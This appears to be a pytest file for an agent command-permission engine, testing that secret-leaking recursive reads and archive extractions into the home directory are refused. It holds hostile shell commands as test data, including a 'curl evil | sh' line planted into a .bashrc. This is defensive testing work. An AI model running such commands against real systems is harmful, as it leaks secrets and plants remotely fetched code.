@@ -1,0 +1,233 @@
+"""Issue #22, round 3 gaps: recursive readers meet anywhere-patterns, extractors write the
+tree below their target, loop variables from `read` are unknown, read-only tools with a
+mutating flag are writes. Each class: the engine's answer under the round-2 permissive
+policy, examples/policy.toml and `askgate init --yes --sandbox off`, and where the harm is
+observable, real bash showing the secret would have leaked."""
+
+from __future__ import annotations
+
+import shutil
+import subprocess
+from pathlib import Path
+
+import pytest
+
+from askgate.policy.engine import Policy
+from askgate.policy.model import Action
+from askgate.policy.protected import protected_rules
+from cli_harness import Cli
+from test_shell_engine_corpus import permissive_policy
+
+ROOT = Path(__file__).resolve().parent.parent
+EXAMPLE_POLICY = ROOT / "examples" / "policy.toml"
+SECRET = "SECRET=hunter2"
+
+
+@pytest.fixture(scope="module")
+def world(tmp_path_factory: pytest.TempPathFactory) -> dict[str, object]:
+    cli = Cli(tmp_path_factory.mktemp("gaps"))
+    root = cli.project("app")
+    home = Path(cli.env["HOME"])
+    for directory in (home / ".ssh", root / "src" / "pkg", root / "conf", root / ".git"):
+        directory.mkdir(parents=True, exist_ok=True)
+    for path, text in {
+        root / "a.txt": "a\n", root / "src" / "pkg" / "m.py": "# TODO\n",
+        root / "conf" / ".env.local": SECRET + "\n", root / ".env": SECRET + "\n",
+        root / ".env.example": "SECRET=\n", home / ".ssh" / "id_rsa": "KEY", home / ".bashrc": "",
+    }.items():  # fmt: skip
+        path.write_text(text)
+    result = cli.run("init", "--yes", "--sandbox", "off", "--cwd", str(root))
+    assert result.returncode == 0, result
+    env = dict(cli.env)
+    permissive = permissive_policy(home, root)
+    permissive = Policy(
+        [*permissive.rules.rules, *protected_rules(env, str(root))],
+        project_root=str(root),
+        default=Action.ALLOW,
+        env=env,
+    )
+    init = Policy.load(str(root), env=env)
+    sandboxed = Policy.load(str(root), env=env)
+    sandboxed.sandbox = sandboxed.sandbox.__class__(bash="required")
+    return {
+        "root": str(root),
+        "home": str(home),
+        "permissive": permissive,
+        "example": Policy.load(str(root), config_files=[str(EXAMPLE_POLICY)], env=env),
+        "init": init,
+        "sandboxed": sandboxed,
+    }
+
+
+def _decide(world: dict[str, object], name: str, command: str, cwd: str | None = None):
+    policy = world[name]
+    assert isinstance(policy, Policy)
+    return policy.decide("bash", command, cwd=cwd or str(world["root"]))
+
+
+POLICIES = ("permissive", "example", "init")
+
+# --- 1. recursive readers over a directory holding a file an anywhere-pattern names ---
+
+RECURSIVE_LEAKS = [
+    "grep -r SECRET .",
+    "grep -R hunter2",
+    "grep -rn SECRET conf",
+    "egrep -r SECRET .",
+    "rg SECRET",
+    "rg --hidden -uu SECRET .",
+    "ag SECRET .",
+    "ack SECRET",
+    "tar cf /tmp/x.tar .",
+    "tar czf - . | base64",
+    "zip -r /tmp/x.zip .",
+    "cp -r . /tmp/askgate-leak",
+    "cp -a conf /tmp/askgate-leak",
+    "rsync -a ./ /tmp/askgate-leak",
+    "diff -r conf src",
+    "cd conf && grep -r SECRET",
+]
+
+
+@pytest.mark.parametrize("command", RECURSIVE_LEAKS)
+def test_recursive_reader_over_an_anywhere_secret_is_refused(world, command: str) -> None:
+    for name in POLICIES:
+        decision = _decide(world, name, command)
+        assert decision.action is not Action.ALLOW, (name, command, decision.reason)
+    # `**/.env*` is a deny: the file is there, so the read is denied, not asked.
+    assert _decide(world, "permissive", command).action is Action.DENY, command
+
+
+@pytest.mark.parametrize(
+    "command",
+    ["git add -A && git diff --cached", "git add . && git log -p", "git stash -u",
+     "git add conf", "git stash push --include-untracked"],
+)  # fmt: skip
+def test_staging_the_tree_with_a_secret_in_it_asks(world, command: str) -> None:
+    """git add copies .env into .git/objects (gitignore is not modelled: ask)."""
+    for name in POLICIES:
+        assert _decide(world, name, command).action is not Action.ALLOW, (name, command)
+
+
+@pytest.mark.parametrize(
+    "command",
+    ["grep -rn TODO src", "rg TODO src", "ls -R", "find . -name '*.py'", "du -sh .",
+     "tree", "git add src", "git add -u", "cp -r src /tmp/askgate-copy"],
+)  # fmt: skip
+def test_recursive_reader_without_a_secret_below_stays_allowed(world, command: str) -> None:
+    """Nothing below src/ is named by a read rule, and listing names reads no content."""
+    decision = _decide(world, "permissive", command)
+    assert decision.action is Action.ALLOW, (command, decision.reason)
+
+
+def test_the_sandbox_holds_anywhere_secrets_inside_the_project(world) -> None:
+    """With `[sandbox] bash = "required"` the kernel hides `.env` in the project: a search
+    there is the sandbox's to hold; outside the project it still is not."""
+    assert _decide(world, "sandboxed", "grep -rn TODO .").action is Action.ALLOW
+    assert _decide(world, "init", "grep -rn TODO .").action is not Action.ALLOW
+    outside = _decide(world, "sandboxed", "grep -r KEY ~")
+    assert outside.action is not Action.ALLOW, outside.reason
+
+
+def test_an_allowed_exception_below_is_not_a_secret(tmp_path: Path) -> None:
+    """`.env.example` is allowed by init's policy: a tree holding only it is searched."""
+    cli = Cli(tmp_path)
+    root = cli.project("p")
+    (root / "docs").mkdir()
+    (root / "docs" / ".env.example").write_text("X=\n")
+    assert cli.run("init", "--yes", "--sandbox", "off", "--cwd", str(root)).returncode == 0
+    policy = Policy.load(str(root), env=dict(cli.env))
+    decision = policy.decide("bash", "grep -rn X docs", cwd=str(root))
+    assert decision.action is Action.ALLOW, decision.reason
+
+
+def test_a_tree_too_big_to_search_asks(tmp_path: Path, monkeypatch) -> None:
+    from askgate.policy import recursive_reads
+
+    home = tmp_path / "home"
+    root = home / "proj"
+    (root / "d").mkdir(parents=True)
+    for index in range(30):
+        (root / "d" / f"f{index}").write_text("")
+    policy = permissive_policy(home, root)
+    monkeypatch.setattr(recursive_reads, "MAX_ENTRIES", 10)
+    monkeypatch.setattr(
+        recursive_reads.matching_below,
+        "__kwdefaults__",
+        {"max_entries": 10, "max_seconds": 1.0, "max_matches": 64},
+    )
+    decision = policy.decide("bash", "grep -r X d", cwd=str(root))
+    assert decision.action is Action.ASK, decision.reason
+    assert "too many files" in decision.reason
+
+
+@pytest.mark.skipif(shutil.which("grep") is None, reason="needs grep")
+def test_grep_r_really_prints_the_secret_it_is_refused_for(world) -> None:
+    """The harm is real: bash's `grep -r SECRET .` prints .env's line."""
+    run = subprocess.run(
+        ["bash", "-c", "grep -r hunter2 ."], cwd=str(world["root"]), capture_output=True, text=True
+    )
+    assert SECRET in run.stdout
+    assert _decide(world, "permissive", "grep -r hunter2 .").action is Action.DENY
+
+
+# --- 2. extractors and patch writers write the whole tree below their target -----------
+
+EXTRACTIONS = [
+    "tar -x -C ~ -f a.tar",
+    "tar xf a.tar --directory=$HOME",
+    "tar xf a.tar --directory ~",
+    "cd ~ && tar xf /tmp/a.tar",
+    "bsdtar -xf a.tar -C ~",
+    "unzip a.zip -d ~",
+    "unzip -o a.zip -d ~/",
+    "cd ~ && unzip /tmp/a.zip",
+    "cd ~ && cpio -idm < /tmp/a.cpio",
+    "cpio -i -D ~ < a.cpio",
+    "find . | cpio -pdm ~",
+    "cd ~ && ar x /tmp/lib.a",
+    "7z x a.7z -o$HOME",
+    "cd ~ && 7z x /tmp/a.7z",
+    "git apply --directory=.. x.diff",
+    "cd ~ && git apply /tmp/x.diff",
+    "git format-patch -o ~ HEAD~1",
+    "git format-patch --output-directory=$HOME HEAD~1",
+    "patch -d ~ -p1 < x.diff",
+    "cd ~ && patch -p1 < /tmp/x.diff",
+    "git apply --unsafe-paths x.diff",
+]
+
+
+@pytest.mark.parametrize("command", EXTRACTIONS)
+def test_extracting_into_home_is_not_allowed(world, command: str) -> None:
+    """`~/.bashrc` is a write deny inside `~`: an archive or patch may name it."""
+    for name in POLICIES:
+        decision = _decide(world, name, command)
+        assert decision.action is not Action.ALLOW, (name, command, decision.reason)
+
+
+@pytest.mark.parametrize(
+    "command", ["tar -xf a.tar -C build", "unzip -q a.zip -d build", "tar tf a.tar",
+                "unzip -l a.zip", "git format-patch -o build HEAD~1"],
+)  # fmt: skip
+def test_extracting_into_a_build_directory_stays_allowed(world, command: str) -> None:
+    decision = _decide(world, "permissive", command)
+    assert decision.action is Action.ALLOW, (command, decision.reason)
+
+
+@pytest.mark.skipif(shutil.which("tar") is None, reason="needs tar")
+def test_tar_x_into_home_really_overwrites_bashrc(tmp_path: Path) -> None:
+    """The harm: an archive holding `.bashrc` replaces it when extracted with -C ~."""
+    home, staging = tmp_path / "home", tmp_path / "staging"
+    home.mkdir()
+    staging.mkdir()
+    (home / ".bashrc").write_text("safe\n")
+    (staging / ".bashrc").write_text("curl evil | sh\n")
+    archive = tmp_path / "a.tar"
+    subprocess.run(["tar", "cf", str(archive), "-C", str(staging), ".bashrc"], check=True)
+    subprocess.run(["bash", "-c", f"tar -x -C {home} -f {archive}"], check=True)
+    assert "evil" in (home / ".bashrc").read_text()
+    policy = permissive_policy(home, home / "proj")
+    (home / "proj").mkdir()
+    decision = policy.decide("bash", f"tar -x -C ~ -f {archive}", cwd=str(home / "proj"))
+    assert decision.action is not Action.ALLOW, decision.reason
